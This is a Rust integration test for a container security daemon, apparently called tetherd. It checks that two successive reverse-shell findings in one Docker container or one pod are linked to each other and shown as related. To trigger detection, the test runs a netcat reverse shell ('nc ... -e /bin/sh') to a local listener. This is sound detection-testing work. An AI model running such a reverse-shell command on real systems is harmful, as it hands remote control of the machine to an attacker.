//! Findings of one container and of one pod are linked, both ways, in the records and in `show`.

use std::process::{Command, Stdio};

use serde_json::json;

use crate::common::attacker::Listener;
use crate::common::daemon::{Daemon, tetherd};
use crate::common::finding::Finding;
use crate::common::victim::Victim;
use crate::cri::Pod;
use crate::docker::Docker;
use crate::{require_containerd, require_docker};

/// Two reverse shells, the first over before the second begins.
fn two(container: &str, reasons: &[&str], start: &dyn Fn(&str) -> Command) {
    let daemon = Daemon::start("[enrich]\ndigest_wait_ms = 1000\n");
    let shell = || {
        let attacker = Listener::tcp();
        let mut command = start(&format!("nc 127.0.0.1 {} -e /bin/sh", attacker.port()));
        command.stdin(Stdio::null()).stdout(Stdio::null());
        let victim = Victim::spawn(command);
        let session = attacker.accept();
        let is = |record: &Finding| {
            record.peer_port() == Some(attacker.port()) && record.text("Container_Id") == container
        };
        let found = daemon.wait_for("the reverse shell", is);
        (found, session, victim)
    };
    let (one, session, victim) = shell();
    session.exit();
    drop(victim);
    daemon.wait_for("the first one ends", |record| record.id() == one.id() && record.state() == "INACTIVE");
    let (two, session, victim) = shell();
    let linked = |record: &Finding, to: &Finding| {
        let links = record.property("Related_Findings").as_array().cloned().unwrap_or_default();
        // The same program on top of that, where its digest was there in time.
        let with_program = [reasons, &["executable"]].concat();
        links.iter().any(|link| {
            link["id"] == to.id() && [json!(reasons), json!(with_program)].contains(&link["reasons"])
        })
    };
    for (own, other) in [(&one, &two), (&two, &one)] {
        daemon.wait_for("the link", |record| record.id() == own.id() && linked(record, other));
        let spool = daemon.place().spool().display().to_string();
        let shown = String::from_utf8(tetherd(&["show", own.id(), "--spool", &spool]).stdout).unwrap();
        let flat = shown.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(flat.contains("Related Findings") && flat.contains(other.id()), "{shown}");
        assert!(flat.contains(&format!("reasons {}", reasons.join(", "))), "{shown}");
    }
    drop((session, victim));
}

#[test]
fn related_in_one_container() {
    require_docker!();
    let container = Docker::shared().sleeper();
    two(&container.id, &["container"], &|line| container.exec(line));
}

#[test]
fn related_in_one_pod() {
    require_containerd!();
    let pod = Pod::run("sleep 600");
    two(&pod.id, &["container", "pod"], &|line| pod.exec(line));
}
